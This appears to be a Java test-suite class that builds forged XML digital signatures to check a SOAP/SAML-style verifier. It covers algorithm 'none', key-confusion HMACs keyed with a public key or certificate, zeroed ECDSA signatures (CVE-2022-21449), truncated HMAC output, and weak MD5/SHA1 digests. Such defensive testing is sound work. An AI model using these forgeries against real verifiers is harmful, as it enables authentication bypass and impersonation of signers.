package fr.accroche.messages;

import static fr.accroche.messages.SignatureText.method;
import static fr.accroche.messages.SignatureText.replace;

import fr.accroche.messages.WrappingAttacks.Attack;
import java.security.interfaces.ECPublicKey;
import java.util.Base64;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.Map;
import javax.crypto.spec.SecretKeySpec;

/** A signature that anybody can make, by the algorithm that it names. */
final class AlgorithmAttacks {
    private static final String MORE = "http://www.w3.org/2001/04/xmldsig-more#";
    private static final String LENGTH = "<ds:HMACOutputLength>8</ds:HMACOutputLength></ds:SignatureMethod>";

    private AlgorithmAttacks() {}

    static Map<String, Attack> all() {
        Map<String, Attack> all = new LinkedHashMap<>();
        all.putAll(signatures());
        all.putAll(symmetric());
        all.putAll(digests());
        return all;
    }

    private static Map<String, Attack> signatures() {
        Map<String, Attack> all = new LinkedHashMap<>();
        all.put("algorithm-none", s -> signature(s, "none"));
        all.put("algorithm-empty", s -> signature(s, ""));
        all.put("rsa-md5", s -> signature(s, MORE + "rsa-md5"));
        all.put("rsa-sha1", s -> signature(s, Namespaces.XMLDSIG + "rsa-sha1"));
        all.put("dsa-sha1", s -> signature(s, Namespaces.XMLDSIG + "dsa-sha1"));
        all.put("rsa-pss", s -> signature(s, "http://www.w3.org/2007/05/xmldsig-more#sha256-rsa-MGF1"));
        all.put(
                "algorithm-of-another-key",
                s -> s.soap(replace(digested(s), "SignatureMethod", method("SignatureMethod", MORE + "ecdsa-sha256"))));
        all.put("ecdsa-zero", s -> elliptic(s, new byte[64]));
        all.put("ecdsa-order", s -> elliptic(s, orderTwice()));
        all.put("ecdsa-short", s -> elliptic(s, new byte[] {1}));
        all.put("signature-empty", s -> s.soap(replace(digested(s), "SignatureValue", "<ds:SignatureValue/>")));
        all.put("signature-no-base64", s -> s.soap(replace(digested(s), "SignatureValue", value("=é="))));
        return all;
    }

    /** What zeros are to a verifier that multiplies by them (CVE-2022-21449). */
    private static String elliptic(SignedSample s, byte[] value) {
        ForeignSigner signer = new ForeignSigner(s.evilTwin(""), s.id());
        signer.signatureMethod = MORE + "ecdsa-sha256";
        signer.key = Keys.ELLIPTIC.key();
        signer.keyInfo = signer.x509(Keys.ELLIPTIC);
        return s.soap(replace(
                signer.assertion(), "SignatureValue", value(Base64.getEncoder().encodeToString(value))));
    }

    private static String value(String text) {
        return "<ds:SignatureValue>" + text + "</ds:SignatureValue>";
    }

    /** Another person, with the digest of what it says now: only the SignatureValue stands in the way. */
    private static String digested(SignedSample s) {
        ForeignSigner signer = new ForeignSigner(s.evilTwin(""), s.id());
        signer.key = Keys.OTHER.key();
        return signer.assertion();
    }

    /** A number that is zero to the curve, though it is none as it is written. */
    private static byte[] orderTwice() {
        ECPublicKey key = (ECPublicKey) Keys.ELLIPTIC.certificate().getPublicKey();
        String order = key.getParams().getOrder().toString(16);
        return HexFormat.of().parseHex(order + order);
    }

    private static Map<String, Attack> symmetric() {
        Map<String, Attack> all = new LinkedHashMap<>();
        all.put(
                "hmac-public-key",
                s -> hmac(s, Keys.EDITOR.certificate().getPublicKey().getEncoded()));
        all.put("hmac-certificate", s -> hmac(s, Keys.EDITOR.certificate().getEncoded()));
        all.put(
                "hmac-truncated",
                s -> s.soap(replace(
                        evil(s),
                        "SignatureMethod",
                        "<ds:SignatureMethod Algorithm=\"" + MORE + "hmac-sha256\">" + LENGTH)));
        all.put(
                "output-length-of-rsa",
                s -> s.soap(replace(
                        s.genuine(),
                        "SignatureMethod",
                        "<ds:SignatureMethod Algorithm=\"" + MORE + "rsa-sha256\">" + LENGTH)));
        return all;
    }

    private static Map<String, Attack> digests() {
        Map<String, Attack> all = new LinkedHashMap<>();
        all.put("digest-md5", s -> digest(s, MORE + "md5"));
        all.put("digest-sha1", s -> digest(s, Namespaces.XMLDSIG + "sha1"));
        all.put("digest-none", s -> digest(s, "none"));
        return all;
    }

    private static String hmac(SignedSample s, byte[] secret) {
        ForeignSigner signer = s.signer();
        signer.signatureMethod = MORE + "hmac-sha256";
        signer.key = new SecretKeySpec(secret, "HmacSHA256");
        return s.soap(signer.assertion());
    }

    private static String signature(SignedSample s, String algorithm) {
        return s.soap(replace(evil(s), "SignatureMethod", method("SignatureMethod", algorithm)));
    }

    private static String digest(SignedSample s, String algorithm) throws Exception {
        return SignedInfoForger.sign(
                s.soap(replace(evil(s), "DigestMethod", method("DigestMethod", algorithm))), Keys.EDITOR);
    }

    private static String evil(SignedSample s) {
        return s.evilTwin(s.signature());
    }
}
